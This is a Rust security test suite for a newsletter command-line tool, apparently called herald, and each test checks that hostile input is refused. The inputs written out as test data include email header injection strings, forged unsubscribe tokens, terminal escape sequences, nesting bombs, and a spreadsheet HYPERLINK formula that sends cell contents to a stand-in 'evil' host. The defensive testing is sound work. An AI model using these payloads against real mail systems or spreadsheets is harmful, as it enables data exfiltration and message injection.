//! Attacks through configuration, CSV files, issue files and remote
//! replies, each driven through the built binary: forged unsubscribe links,
//! secrets in messages, header and link injection, spreadsheet formulas,
//! placeholder forgery, nesting bombs, encoded-word subjects, international
//! addresses, file modes, terminal escapes and absurd sizes.

use std::path::Path;
use std::time::{Duration, Instant};

use herald::token::{SigningKeys, TokenClaims};

use crate::helpers::{ledger, live_send, seed_subscribers, stderr, stdout, write_issue, TestEnv};
use crate::smtp_server::{Fault, SmtpServer};

const KEY: &str = "security-test-signing-key-0123456789abcdef";

fn run(env: &TestEnv, envs: &[(&str, &str)], args: &[&str]) -> std::process::Output {
    let mut cmd = env.herald();
    for (k, v) in envs {
        cmd.env(k, v);
    }
    cmd.args(args)
        .timeout(Duration::from_secs(60))
        .output()
        .unwrap()
}

fn assert_bad_input(out: &std::process::Output, names: &str) -> String {
    let err = stderr(out);
    assert_eq!(
        out.status.code(),
        Some(2),
        "stdout: {}\nstderr: {err}",
        stdout(out)
    );
    assert!(err.contains(names), "expected `{names}` in: {err}");
    err
}

// 1. Forgeable unsubscribe links.

#[test]
fn an_empty_or_short_previous_secret_is_a_configuration_error_and_forges_nothing() {
    let env = TestEnv::new();
    run(&env, &[], &["subscribers", "add", "victim@example.org"]);
    // A link "signed" with the empty key, for subscriber 1.
    let forged = SigningKeys::new("".into(), None).sign(TokenClaims {
        subscriber_id: 1,
        issue_id: None,
    });
    for weak in ["", "x", "0123456789abcdef0123456789abcde"] {
        let out = run(
            &env,
            &[
                ("HERALD__UNSUBSCRIBE__SECRET", KEY),
                ("HERALD__UNSUBSCRIBE__PREVIOUS_SECRET", weak),
            ],
            &["subscribers", "unsubscribe-token", &forged],
        );
        let err = assert_bad_input(&out, "unsubscribe.previous_secret");
        assert!(err.contains("openssl rand -hex 32"), "{err}");
        if weak.len() > 1 {
            assert!(!err.contains(weak), "the value was printed: {err}");
        }
        // serve refuses to start on the same settings.
        let out = run(
            &env,
            &[
                ("HERALD__UNSUBSCRIBE__SECRET", KEY),
                ("HERALD__UNSUBSCRIBE__PREVIOUS_SECRET", weak),
            ],
            &["serve", "--bind", "127.0.0.1:0"],
        );
        assert_bad_input(&out, "unsubscribe.previous_secret");
    }
    let out = run(&env, &[], &["subscribers", "list", "--format", "json"]);
    assert!(stdout(&out).contains("\"active\""), "{}", stdout(&out));
}

#[test]
fn the_current_secret_needs_32_bytes_and_must_differ_from_the_previous_one() {
    let env = TestEnv::bare();
    let out = run(&env, &[("HERALD__UNSUBSCRIBE__SECRET", "")], &["init"]);
    assert_bad_input(&out, "unsubscribe.secret");
    let out = run(
        &env,
        &[(
            "HERALD__UNSUBSCRIBE__SECRET",
            "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
        )],
        &["init"],
    );
    assert_bad_input(&out, "unsubscribe.secret");
    let out = run(
        &env,
        &[
            ("HERALD__UNSUBSCRIBE__SECRET", KEY),
            ("HERALD__UNSUBSCRIBE__PREVIOUS_SECRET", KEY),
        ],
        &["init"],
    );
    let err = assert_bad_input(&out, "must differ");
    assert!(!err.contains(KEY), "{err}");
    assert!(!env.path().join("herald.db").exists(), "nothing written");
    // A 32-byte key passes.
    let out = run(
        &env,
        &[(
            "HERALD__UNSUBSCRIBE__SECRET",
            "0123456789abcdef0123456789abcdef",
        )],
        &["init"],
    );
    assert!(out.status.success(), "{}", stderr(&out));
}

// 2. Secrets in error messages.

#[test]
fn secrets_that_look_like_numbers_stay_strings_and_are_never_printed() {
    let env = TestEnv::new();
    // A numeric password and a numeric-looking key are strings.
    let digits = "98765432109876543210987654321098765";
    let out = run(
        &env,
        &[
            ("HERALD__SMTP__PASSWORD", "987654321"),
            ("HERALD__SMTP__USERNAME", "12345"),
            ("HERALD__UNSUBSCRIBE__SECRET", digits),
        ],
        &["init"],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let out = run(&env, &[("HERALD__SMTP__PASSWORD", "[1, 2]")], &["init"]);
    assert!(out.status.success(), "{}", stderr(&out));

    // A password of the wrong type in a file: named, not shown.
    let file = env.write("typed.toml", "[smtp]\npassword = 987654321\n");
    let out = run(&env, &[], &["--config", file.to_str().unwrap(), "init"]);
    let err = assert_bad_input(&out, "smtp.password");
    assert!(!err.contains("987654321"), "{err}");

    // A TOML syntax error on the line holding a secret: file and line, no
    // quoted line.
    let file = env.write(
        "broken.toml",
        "[unsubscribe]\nsecret = \"s3cr3t-value-that-must-not-leak-0123456789\n",
    );
    let out = run(&env, &[], &["--config", file.to_str().unwrap(), "init"]);
    let err = assert_bad_input(&out, "broken.toml:2");
    assert!(!err.contains("s3cr3t-value"), "{err}");

    // An environment variable error names the variable.
    let out = run(&env, &[("HERALD__SMTP__PORT", "many")], &["init"]);
    assert_bad_input(&out, "HERALD__SMTP__PORT");
}

// 3. Control characters and links in configuration.

#[test]
fn header_and_link_settings_with_control_characters_or_extra_targets_are_refused() {
    let env = TestEnv::new();
    seed_subscribers(&env, 2);
    let issue = write_issue(&env, "inject");
    let cases: [(&str, &str, &str); 9] = [
        ("from-name.toml", "[sender]\nfrom_name = \"x\\r\\nBcc: victim@evil\"\n", "sender.from_name"),
        ("name.toml", "[newsletter]\nname = \"News\\nBcc: v@e\"\n", "newsletter.name"),
        ("list.toml", "[newsletter]\nlist_id = \"news.example.org>\\r\\nX: y\"\n", "newsletter.list_id"),
        ("postal.toml", "[newsletter]\npostal_address = \"1 Road\\u2028X\"\n", "newsletter.postal_address"),
        ("reply.toml", "[sender]\nreply_to = \"a@example.org\\r\\nBcc: v@e.org\"\n", "sender.reply_to"),
        ("feedback.toml", "[sender]\nfeedback_id = \"a:b\\r\\nBcc: v@e\"\n", "sender.feedback_id"),
        ("base.toml", "[http]\npublic_base_url = \"https://x/>, <mailto:evil@x\"\n", "http.public_base_url"),
        ("space.toml", "[http]\npublic_base_url = \"https://news.example.org/a b\"\n", "http.public_base_url"),
        (
            "dkim.toml",
            "[dkim]\ndomain = \"example.org\\r\\nX: y\"\nselector = \"s\"\nprivate_key_path = \"k.pem\"\n",
            "dkim.domain",
        ),
    ];
    for (name, text, key) in cases {
        let file = env.write(name, text);
        let config = file.to_str().unwrap();
        for args in [
            vec!["issue", "render", issue.to_str().unwrap(), "--out", "out"],
            vec!["send", issue.to_str().unwrap(), "--dry-run"],
            vec!["send", issue.to_str().unwrap(), "--test", "t@example.org"],
            vec!["schedule", issue.to_str().unwrap(), "--in", "2h"],
        ] {
            let mut all = vec!["--config", config];
            all.extend(args);
            let out = run(&env, &[], &all);
            assert_bad_input(&out, key);
        }
    }
    assert!(!env.path().join("out").exists());
    assert!(!env.path().join("outbox").exists());
}

// 4. Resubscribe only undoes what a link did: tests/cli/http.rs
//    (`a_link_cannot_undo_an_unsubscribe_it_did_not_make`).

// 5. Spreadsheet formula injection.

#[test]
fn exports_neutralise_formulas_and_import_of_an_export_is_lossless() {
    let env = TestEnv::new();
    let formula = "=HYPERLINK(\"http://evil/?\"&A1)";
    for (email, name) in [
        ("ana@example.org", formula),
        ("bob@example.org", "+1 555"),
        ("cy@example.org", "'Tis Cy"),
        ("di@example.org", "-dash @at"),
        ("ed@example.org", "@mention"),
    ] {
        let name = format!("--name={name}");
        let out = run(&env, &[], &["subscribers", "add", email, &name]);
        assert!(out.status.success(), "{}", stderr(&out));
    }
    let export = stdout(&run(&env, &[], &["subscribers", "export"]));
    let listed = stdout(&run(&env, &[], &["subscribers", "list", "--format", "csv"]));
    for csv in [&export, &listed] {
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "a formula cell: {cell:?} in {csv}"
                );
            }
        }
    }
    assert!(export.contains("'=HYPERLINK"), "{export}");

    // Round trip into a fresh installation.
    let other = TestEnv::new();
    let file = other.write("export.csv", &export);
    let out = run(
        &other,
        &[],
        &["subscribers", "import", file.to_str().unwrap()],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let names = |e: &TestEnv| -> Vec<(String, String)> {
        let json: serde_json::Value = serde_json::from_str(&stdout(&run(
            e,
            &[],
            &["subscribers", "list", "--format", "json"],
        )))
        .unwrap();
        json.as_array()
            .unwrap()
            .iter()
            .map(|s| {
                (
                    s["email"].as_str().unwrap().into(),
                    s["name"].as_str().unwrap().into(),
                )
            })
            .collect()
    };
    assert_eq!(names(&env), names(&other));

    // Addresses that start a formula are refused at add and import.
    let out = run(&env, &[], &["subscribers", "add", "=cmd@example.org"]);
    assert_bad_input(&out, "formula");
    let file = env.write("f.csv", "email\n@SUM(1)@example.org\nok@example.org\n");
    let out = run(
        &env,
        &[],
        &["subscribers", "import", file.to_str().unwrap()],
    );
    assert!(out.status.success());
    assert!(
        stderr(&out).contains("f.csv:2: rejected"),
        "{}",
        stderr(&out)
    );
}

// 6. The placeholder guard on parsed values.

#[test]
fn placeholder_brackets_written_as_toml_escapes_are_refused() {
    let env = TestEnv::new();
    let bundled = std::fs::read_to_string(write_issue(&env, "esc")).unwrap();
    for (what, field) in [
        ("headline = \"\\u27e6herald:name|\"", "headline"),
        ("headline = \"ok\\u27E7\"", "headline"),
        (
            "photo_credit = \"\\u27e6herald:email\\u27e7\"",
            "photo_credit",
        ),
    ] {
        let text = bundled.replacen("[[blocks]]\n", &format!("[[blocks]]\n{what}\n"), 1);
        // Drop the block's own key of the same name, if any, so the file
        // stays valid TOML.
        let key = what.split(" = ").next().unwrap();
        let mut seen = false;
        let text: String = text
            .lines()
            .filter(|l| {
                if l.starts_with(&format!("{key} = ")) {
                    let keep = !seen;
                    seen = true;
                    keep
                } else {
                    true
                }
            })
            .map(|l| format!("{l}\n"))
            .collect();
        let file = env.write("issues/esc.toml", text);
        let out = run(&env, &[], &["issue", "check", file.to_str().unwrap()]);
        let err = assert_bad_input(&out, field);
        assert!(err.contains("reserved for placeholders"), "{err}");
    }
    let text = bundled.replacen("preheader = ", "preheader = \"\\u27e6\" # ", 1);
    let file = env.write("issues/esc.toml", text);
    let out = run(&env, &[], &["issue", "check", file.to_str().unwrap()]);
    assert_bad_input(&out, "preheader");
}

// 7. Nesting bombs and oversized issues.

fn issue_with_body(env: &TestEnv, body: &str) -> std::path::PathBuf {
    let text = format!(
        "slug = \"bomb\"\nsubject = \"S\"\npreheader = \"P\"\ndate = 2030-01-06\n\n[[blocks]]\ntype = \"text\"\ntitle = \"T\"\nbody = '''\n{body}\n'''\n"
    );
    env.write("issues/bomb.toml", text)
}

#[test]
fn deeply_nested_markdown_is_bad_input_naming_block_and_line_not_a_crash() {
    let env = TestEnv::new();
    let cases = [
        format!("intro\n\n{}deep", "> ".repeat(20_000)),
        (0..700)
            .map(|i| format!("{}- item\n", "  ".repeat(i)))
            .collect::<String>(),
        format!("{}x{}", "*a ".repeat(50_000), " a*".repeat(50_000)),
    ];
    for body in cases {
        let file = issue_with_body(&env, &body);
        let started = Instant::now();
        let out = run(&env, &[], &["issue", "check", file.to_str().unwrap()]);
        assert!(
            started.elapsed() < Duration::from_secs(5),
            "took {:?}",
            started.elapsed()
        );
        let err = assert_bad_input(&out, "blocks[1].body");
        assert!(err.contains("bomb.toml:"), "{err}");
    }
    // Nested 20 levels deep: the line is named.
    let body = format!("fine\n\n{}deep\n", "> ".repeat(20));
    let file = issue_with_body(&env, &body);
    let out = run(&env, &[], &["issue", "check", file.to_str().unwrap()]);
    let err = assert_bad_input(&out, "bomb.toml:12: blocks[1].body");
    assert!(err.contains("nested 20 levels deep"), "{err}");
    // A big file is refused before parsing.
    let big = env.write("issues/big.toml", format!("# {}\n", "x".repeat(2 << 20)));
    let out = run(&env, &[], &["issue", "check", big.to_str().unwrap()]);
    assert_bad_input(&out, "larger than");
}

// 8. Encoded-word subjects.

#[test]
fn an_encoded_word_subject_goes_out_encoded_so_clients_show_it_literally() {
    let env = TestEnv::new();
    let issue = write_issue(&env, "ew");
    let text = std::fs::read_to_string(&issue).unwrap().replacen(
        "subject = \"Migration news — ew\"",
        "subject = \"=?utf-8?q?=0D=0ABcc:_v@e.com?=\"",
        1,
    );
    std::fs::write(&issue, text).unwrap();
    let out = run(
        &env,
        &[],
        &["issue", "render", issue.to_str().unwrap(), "--out", "r"],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let eml = std::fs::read_to_string(env.path().join("r/sample.eml")).unwrap();
    let head = eml.split("\r\n\r\n").next().unwrap();
    assert!(!head.contains("=0D=0A"), "{head}");
    assert!(head.contains("Subject: =?utf-8?b?"), "{head}");
}

// 9. International addresses.

#[test]
fn international_domains_are_one_subscriber_in_ascii_and_utf8_local_parts_are_refused() {
    let env = TestEnv::new();
    let file = env.write(
        "intl.csv",
        "email,name\na@bücher.de,One\na@xn--bcher-kva.de,Two\nb@\u{ff45}xample.org,Full\njörg@example.org,J\n",
    );
    let out = run(
        &env,
        &[],
        &["subscribers", "import", file.to_str().unwrap()],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("intl.csv:5: rejected"),
        "{}",
        stderr(&out)
    );
    assert!(stderr(&out).contains("SMTPUTF8"), "{}", stderr(&out));
    let json: serde_json::Value = serde_json::from_str(&stdout(&run(
        &env,
        &[],
        &["subscribers", "list", "--format", "json"],
    )))
    .unwrap();
    let emails: Vec<&str> = json
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["email"].as_str().unwrap())
        .collect();
    assert_eq!(emails, ["a@xn--bcher-kva.de", "b@example.org"]);
    let out = run(&env, &[], &["subscribers", "add", "zoë@example.org"]);
    assert_bad_input(&out, "SMTPUTF8");

    // The envelope and the To header are ASCII on the wire.
    let server = SmtpServer::start();
    let issue = write_issue(&env, "intl");
    let out = live_send(&env, &issue, server.port());
    assert!(out.status.success(), "{}", stderr(&out));
    let got = server.received();
    assert_eq!(got.len(), 2);
    for m in got {
        assert!(m.to.iter().all(|t| t.is_ascii()), "{:?}", m.to);
        let to = m
            .data
            .lines()
            .find(|l| l.starts_with("To:"))
            .unwrap()
            .to_string();
        assert!(to.is_ascii(), "{to}");
    }
}

// 10. File modes.

#[cfg(unix)]
#[test]
fn the_database_its_wal_and_the_outbox_are_owner_only_whatever_the_umask() {
    if crate::helpers::sqlite_only("file modes of the database file and its WAL") {
        return;
    }
    use std::os::unix::fs::PermissionsExt;
    let env = TestEnv::new();
    let herald = assert_cmd::cargo::cargo_bin("herald");
    let out = std::process::Command::new("sh")
        .current_dir(env.path())
        .arg("-c")
        .arg(format!("umask 000 && '{}' demo", herald.display()))
        .env_remove("HERALD__DATABASE__URL")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let db = env.path().join("herald.db");
    assert_eq!(mode(&db), 0o600);
    for side in ["herald.db-wal", "herald.db-shm"] {
        let p = env.path().join(side);
        if p.exists() {
            assert_eq!(mode(&p), 0o600, "{side}");
        }
    }
    let outbox = env.path().join("outbox");
    assert_eq!(mode(&outbox), 0o700);
    let mut emls = 0;
    for entry in std::fs::read_dir(&outbox).unwrap() {
        let p = entry.unwrap().path();
        assert_eq!(mode(&p), 0o600, "{}", p.display());
        emls += 1;
    }
    assert!(emls > 0);

    // init warns about a database others can read.
    std::fs::set_permissions(&db, std::fs::Permissions::from_mode(0o644)).unwrap();
    let out = run(&env, &[], &["init"]);
    assert!(out.status.success());
    assert!(
        stderr(&out).contains("can be read by other users"),
        "{}",
        stderr(&out)
    );
    assert!(stderr(&out).contains("chmod 600"), "{}", stderr(&out));
}

// 11. Remote text printed to a terminal.

#[test]
fn smtp_replies_with_terminal_escapes_are_printed_escaped() {
    let env = TestEnv::new();
    seed_subscribers(&env, 2);
    let issue = write_issue(&env, "esc-reply");
    let server = SmtpServer::start();
    server.fault(
        "user0001@example.org",
        Fault::AtRcpt("550 5.7.1 \u{1b}[2J\u{1b}]0;owned\u{7} no".into()),
        usize::MAX,
    );
    let out = live_send(&env, &issue, server.port());
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(ledger(&env, &issue)["counts"]["failed"], 1);
    let out = run(&env, &[], &["status", issue.to_str().unwrap(), "--failed"]);
    let text = stdout(&out);
    assert!(
        !text.contains('\u{1b}') && !text.contains('\u{7}'),
        "{text:?}"
    );
    assert!(text.contains("\\x1b[2J"), "{text}");
}

// 12. Unbounded inputs and absurd numbers.

#[test]
fn an_oversized_row_is_rejected_with_its_line_and_the_rest_imported() {
    let env = TestEnv::new();
    let mut csv = String::from("email,name,bio\n");
    csv.push_str("one@example.org,One,short\n");
    csv.push_str(&format!("two@example.org,Two,{}\n", "x".repeat(300 * 1024)));
    csv.push_str("three@example.org,Three,\"multi\nline\"\n");
    csv.push_str(&format!(
        "four@example.org,\"{}\",x\n",
        "y".repeat(70 * 1024)
    ));
    csv.push_str("five@example.org,Five,ok\n");
    let file = env.write("big.csv", csv);
    let out = run(
        &env,
        &[],
        &["subscribers", "import", file.to_str().unwrap()],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains("big.csv:3: rejected: the row is longer than 64 KiB"),
        "{err}"
    );
    // A line break inside an attribute is refused as before; the next row
    // still starts where the file says.
    assert!(
        err.contains("big.csv:4: rejected: bio: contains a control character"),
        "{err}"
    );
    assert!(
        err.contains("big.csv:6: rejected: the row is longer than 64 KiB"),
        "{err}"
    );
    assert!(stdout(&out).contains("imported 2"), "{}", stdout(&out));
    assert!(stdout(&out).contains("rejected 3"), "{}", stdout(&out));
    let list = stdout(&run(&env, &[], &["subscribers", "list"]));
    assert!(
        list.contains("five@example.org") && list.contains("one@example.org"),
        "{list}"
    );
}

#[test]
fn a_huge_header_is_refused_quickly() {
    let env = TestEnv::new();
    let header: Vec<String> = std::iter::once("email".to_string())
        .chain((0..100_000).map(|i| format!("c{i}")))
        .collect();
    let file = env.write("wide.csv", format!("{}\na@example.org\n", header.join(",")));
    let started = Instant::now();
    let out = run(
        &env,
        &[],
        &["subscribers", "import", file.to_str().unwrap()],
    );
    assert!(started.elapsed() < Duration::from_secs(5));
    assert_bad_input(&out, "wide.csv:1:");
    // Many columns but a short line: the duplicate check is linear.
    let header: Vec<String> = std::iter::once("email".to_string())
        .chain((0..900).map(|i| format!("c{i}")))
        .chain(std::iter::once("C7".to_string()))
        .collect();
    let file = env.write("dup.csv", format!("{}\n", header.join(",")));
    let out = run(
        &env,
        &[],
        &["subscribers", "import", file.to_str().unwrap()],
    );
    assert_bad_input(&out, "column `C7` appears twice");
}

#[test]
fn numeric_settings_out_of_range_are_refused_naming_key_and_range() {
    let env = TestEnv::bare();
    for (var, value, key) in [
        (
            "HERALD__SCHEDULE__LEASE_SECS",
            "1e13",
            "schedule.lease_secs",
        ),
        (
            "HERALD__SCHEDULE__LEASE_SECS",
            "10000000000000",
            "schedule.lease_secs",
        ),
        (
            "HERALD__SCHEDULE__MAX_LATENESS_SECS",
            "99999999999",
            "schedule.max_lateness_secs",
        ),
        ("HERALD__SENDER__RETRY_BASE_MS", "0", "sender.retry_base_ms"),
        (
            "HERALD__SENDER__LINGER_SECS",
            "999999999",
            "sender.linger_secs",
        ),
        (
            "HERALD__SMTP__SEND_TIMEOUT_SECS",
            "0",
            "smtp.send_timeout_secs",
        ),
        ("HERALD__SMTP__PORT", "0", "smtp.port"),
        (
            "HERALD__SENDER__RATE_PER_SECOND",
            "inf",
            "sender.rate_per_second",
        ),
        (
            "HERALD__DATABASE__BUSY_TIMEOUT_MS",
            "99999999999",
            "database.busy_timeout_ms",
        ),
    ] {
        let out = run(&env, &[(var, value)], &["init"]);
        assert_bad_input(&out, key);
    }
    let out = run(
        &env,
        &[("HERALD__SCHEDULE__LEASE_SECS", "10000000000000")],
        &["init"],
    );
    assert!(
        stderr(&out).contains("between 5 and 86400"),
        "{}",
        stderr(&out)
    );
    assert!(!env.path().join("herald.db").exists());
}
